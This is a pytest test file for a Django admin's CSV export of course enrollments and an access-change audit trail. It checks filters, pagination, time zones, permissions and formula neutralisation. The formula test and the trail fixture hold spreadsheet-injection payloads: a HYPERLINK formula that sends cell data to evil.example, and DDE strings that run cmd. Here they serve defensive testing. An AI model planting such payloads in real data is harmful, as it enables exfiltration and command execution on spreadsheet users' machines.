"""CSV export of the enrollment list and of the audit trail (enrollments/admin/export.py): the
rows the list shows for the same query string (filters, search, every page), streamed, dates in
the staff member's zone, formula cells neutralised, refused without the view permission, and
within a course staff member's courses."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from enrollments.models import AccessChange
from tests.admin.conftest import grant, logged_in
from tests.factories import (
    AccessChangeFactory,
    CourseFactory,
    CourseRoleFactory,
    EnrollmentFactory,
    StaffFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

ENROLLMENTS_EXPORT = reverse("admin:enrollments_enrollment_export")
TRAIL_EXPORT = reverse("admin:enrollments_accesschange_export")
ENROLLMENTS_LIST = reverse("admin:enrollments_enrollment_changelist")
TRAIL_LIST = reverse("admin:enrollments_accesschange_changelist")


def download(client, url: str, query: str = "") -> tuple[object, list[dict[str, str]]]:
    """The response and its rows as dicts (the body read whole, the BOM checked and dropped)."""
    response = client.get(f"{url}?{query}" if query else url)
    assert response.status_code == 200, response
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return response, list(csv.DictReader(io.StringIO(text[1:])))


def listed_ids(client, query: str) -> set[str]:
    """The ids the changelist shows for `query`, every row on one page (`all`)."""
    response = client.get(
        f"{ENROLLMENTS_LIST}?{query}&all=" if query else f"{ENROLLMENTS_LIST}?all="
    )
    assert response.status_code == 200
    changelist = response.context["cl"]
    assert changelist.result_count == len(changelist.result_list)
    return {str(row.pk) for row in changelist.result_list}


@pytest.fixture
def two_courses(clock):
    now = clock.current
    python = CourseFactory(title="Python Basics", slug="python-basics")
    sql = CourseFactory(title="SQL for Everyone", slug="sql-for-everyone")
    started = now - timedelta(days=10)
    rows = [
        EnrollmentFactory(
            course=python,
            user=UserFactory(email="ada@example.com", first_name="Ada", last_name="Lovelace"),
            start_at=started,
            ended_at=now + timedelta(days=5),
        ),
        EnrollmentFactory(course=python, start_at=started, ended_at=now + timedelta(days=20)),
        EnrollmentFactory(course=python, start_at=started, ended_at=now - timedelta(days=2)),
        EnrollmentFactory(course=sql, start_at=started, ended_at=now + timedelta(days=3)),
        EnrollmentFactory(course=sql, start_at=started, ended_at=None),
        EnrollmentFactory(
            course=sql, start_at=started, ended_at=now + timedelta(days=4), removed_at=now
        ),
    ]
    return python, sql, rows


def test_enrollment_export_is_a_streamed_csv_download_of_the_list(viewer_client, two_courses):
    python, _sql, rows = two_courses
    response, exported = download(viewer_client, ENROLLMENTS_EXPORT)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="enrollments-20260101-0000.csv"'
    assert "no-store" in response["Cache-Control"]  # the admin's never_cache: personal data
    assert list(exported[0]) == [
        "enrollment id",
        "learner e-mail",
        "learner name",
        "course slug",
        "course title",
        "start (UTC)",
        "end (UTC; empty: indefinite)",
        "access",
        "paused since (UTC)",
        "items completed",
        "items total",
        "progress %",
        "course status",
    ]
    # The list's default: every row but the removed one, in the list's order.
    assert {row["enrollment id"] for row in exported} == {str(e.pk) for e in rows[:5]}
    assert [row["enrollment id"] for row in exported] == [
        str(pk)
        for pk in viewer_client.get(ENROLLMENTS_LIST)
        .context["cl"]
        .result_list.values_list("pk", flat=True)
    ]
    ada = next(row for row in exported if row["learner e-mail"] == "ada@example.com")
    assert ada == {
        **ada,
        "enrollment id": str(rows[0].pk),
        "learner name": "Ada Lovelace",
        "course slug": "python-basics",
        "course title": "Python Basics",
        "start (UTC)": "2025-12-22T00:00:00+00:00",
        "end (UTC; empty: indefinite)": "2026-01-06T00:00:00+00:00",
        "access": "Active",
        "paused since (UTC)": "",
        "progress %": "0",
        "course status": "Not started",
    }
    indefinite = next(row for row in exported if row["enrollment id"] == str(rows[4].pk))
    assert indefinite["end (UTC; empty: indefinite)"] == ""
    expired = next(row for row in exported if row["enrollment id"] == str(rows[2].pk))
    assert expired["access"] == "Expired"


#: Queries of the list: filters, search, date drill-down, ordering, and their mixes.
QUERIES = (
    "course__id__exact={python}",
    "q=ada%40example.com",
    "q=sql-for-everyone",
    "ends_within=7",
    "access_state=expired",
    "access_state=removed",
    "access_state=any&course__id__exact={sql}",
    "ended_at__year=2026&ended_at__month=1&ended_at__day=6",
    "course__id__exact={sql}&ends_within=30&o=-4",
)


def test_the_export_holds_the_rows_the_list_shows_for_its_query(viewer_client, two_courses):
    python, sql, _rows = two_courses
    for query in QUERIES:
        query = query.format(python=python.pk, sql=sql.pk)
        _response, exported = download(viewer_client, ENROLLMENTS_EXPORT, query)
        assert {row["enrollment id"] for row in exported} == listed_ids(viewer_client, query)
        assert exported, query  # every case matches some row: an empty one would prove nothing


def test_the_export_holds_every_page_not_the_one_the_link_was_on(viewer_client, clock):
    course = CourseFactory()
    EnrollmentFactory.create_batch(
        55, course=course, start_at=clock.current, ended_at=clock.current + timedelta(days=9)
    )
    page_two = viewer_client.get(f"{ENROLLMENTS_LIST}?p=2")
    assert len(page_two.context["cl"].result_list) == 5  # 50 a page
    _response, exported = download(viewer_client, ENROLLMENTS_EXPORT, "p=2")
    assert len(exported) == 55


def test_the_lists_link_carries_its_query_string(viewer_client, two_courses):
    python, _sql, _rows = two_courses
    page = viewer_client.get(f"{ENROLLMENTS_LIST}?course__id__exact={python.pk}&q=ada&p=1")
    html = page.content.decode()
    assert f'href="{ENROLLMENTS_EXPORT}?course__id__exact={python.pk}&amp;q=ada"' in html

    trail = viewer_client.get(f"{TRAIL_LIST}?action=extend")
    assert trail.status_code == 403  # the viewer holds no view of the trail: no link either
    assert viewer_client.get(f"{TRAIL_EXPORT}?action=extend").status_code == 403  # nor export


def test_formula_cells_are_neutralised(viewer_client, clock):
    learner = UserFactory(
        email="mallory@example.com",
        first_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        last_name="",
    )
    course = CourseFactory(title="@SUM(1+1)*cmd|' /C calc'!A0", slug="formula")
    EnrollmentFactory(user=learner, course=course, start_at=clock.current, ended_at=None)
    _response, exported = download(viewer_client, ENROLLMENTS_EXPORT)
    (row,) = exported
    assert row["learner name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["course title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_dates_are_in_the_staff_members_zone_named_in_the_header(viewer, two_courses):
    viewer.time_zone = "Europe/Berlin"
    viewer.save(update_fields=["time_zone"])
    response, exported = download(logged_in(viewer), ENROLLMENTS_EXPORT, "q=ada%40example.com")
    (ada,) = exported
    assert ada["start (Europe/Berlin)"] == "2025-12-22T01:00:00+01:00"
    assert ada["end (Europe/Berlin; empty: indefinite)"] == "2026-01-06T01:00:00+01:00"
    assert response["Content-Disposition"].endswith('enrollments-20260101-0100.csv"')


def test_refused_without_the_view_permission(two_courses):
    stranger = logged_in(StaffFactory())
    assert stranger.get(ENROLLMENTS_EXPORT).status_code == 403
    assert stranger.get(TRAIL_EXPORT).status_code == 403
    anonymous = logged_in(UserFactory(is_staff=False))
    assert anonymous.get(ENROLLMENTS_EXPORT).status_code == 302  # the admin's log-in


def test_an_invalid_filter_is_answered_as_the_list_answers_it(viewer_client, two_courses):
    response = viewer_client.get(f"{ENROLLMENTS_EXPORT}?course__id__exact=not-a-uuid")
    assert response.status_code == 302
    assert response["Location"] == f"{ENROLLMENTS_LIST}?e=1"


def test_course_staff_export_only_their_courses_rows(two_courses):
    python, sql, rows = two_courses
    role = CourseRoleFactory(course=python)
    client = logged_in(role.user)
    _response, exported = download(client, ENROLLMENTS_EXPORT)
    assert {row["enrollment id"] for row in exported} == {str(e.pk) for e in rows[:3]}
    # A crafted filter for another course exports nothing of it.
    _response, crafted = download(client, ENROLLMENTS_EXPORT, f"course__id__exact={sql.pk}")
    assert crafted == []
    _response, searched = download(client, ENROLLMENTS_EXPORT, "q=sql-for-everyone")
    assert searched == []


def test_the_export_costs_the_same_queries_at_any_size(viewer_client, clock):
    course = CourseFactory()

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            _response, exported = download(viewer_client, ENROLLMENTS_EXPORT)
        return len(queries), len(exported)

    EnrollmentFactory.create_batch(3, course=course, start_at=clock.current, ended_at=None)
    few = count()
    EnrollmentFactory.create_batch(30, course=course, start_at=clock.current, ended_at=None)
    many = count()
    assert (few[1], many[1]) == (3, 33)
    assert few[0] == many[0]


# -- the audit trail ------------------------------------------------------------------------


@pytest.fixture
def trail_viewer():
    return grant(StaffFactory(), "view_accesschange")


@pytest.fixture
def trail(two_courses, clock, operator):
    python, sql, rows = two_courses
    batch = "6f1c2a9e-0b1d-4c55-9f6e-6a3e8c1d2b70"
    return [
        AccessChangeFactory(
            enrollment=rows[0],
            action=AccessChange.Action.EXTEND,
            source=AccessChange.Source.ADMIN,
            actor=operator,
            old_ended_at=clock.current,
            new_ended_at=clock.current + timedelta(days=5),
            reason="=cmd|' /C calc'!A0",
            batch_id=batch,
            created_at=clock.current - timedelta(hours=1),
        ),
        AccessChangeFactory(
            enrollment=rows[3],
            action=AccessChange.Action.EXTEND,
            source=AccessChange.Source.ADMIN,
            actor=operator,
            batch_id=batch,
            created_at=clock.current - timedelta(hours=1),
        ),
        AccessChangeFactory(
            enrollment=rows[1],
            action=AccessChange.Action.PAUSE,
            source=AccessChange.Source.GRAPHQL,
            created_at=clock.current - timedelta(days=2),
        ),
    ]


def test_audit_trail_export_with_its_filters(trail_viewer, trail, operator):
    client = logged_in(trail_viewer)
    response, exported = download(client, TRAIL_EXPORT, "action=extend")
    assert (
        response["Content-Disposition"] == 'attachment; filename="access-changes-20260101-0000.csv"'
    )
    assert list(exported[0]) == [
        "record id",
        "when (UTC)",
        "action",
        "enrollment id",
        "learner e-mail",
        "course title",
        "old end (UTC)",
        "new end (UTC)",
        "paused seconds",
        "actor",
        "source",
        "reason",
        "batch id",
    ]
    assert {row["record id"] for row in exported} == {str(trail[0].pk), str(trail[1].pk)}
    first = next(row for row in exported if row["record id"] == str(trail[0].pk))
    assert first == {
        **first,
        "when (UTC)": "2025-12-31T23:00:00+00:00",
        "action": "Extend by days",
        "learner e-mail": "ada@example.com",
        "course title": "Python Basics",
        "old end (UTC)": "2026-01-01T00:00:00+00:00",
        "new end (UTC)": "2026-01-06T00:00:00+00:00",
        "actor": operator.email,
        "source": "Admin",
        "reason": "'=cmd|' /C calc'!A0",  # neutralised
        "batch id": "6f1c2a9e-0b1d-4c55-9f6e-6a3e8c1d2b70",  # whole
    }
    _response, searched = download(client, TRAIL_EXPORT, "q=sql-for-everyone")
    assert [row["record id"] for row in searched] == [str(trail[1].pk)]
    _response, batch = download(client, TRAIL_EXPORT, f"batch_id={trail[0].batch_id}")
    assert len(batch) == 2


def test_audit_trail_export_within_a_course_staff_members_courses(trail, two_courses):
    python, _sql, _rows = two_courses
    client = logged_in(CourseRoleFactory(course=python).user)  # staff: views the trail
    _response, exported = download(client, TRAIL_EXPORT)
    assert {row["record id"] for row in exported} == {str(trail[0].pk), str(trail[2].pk)}
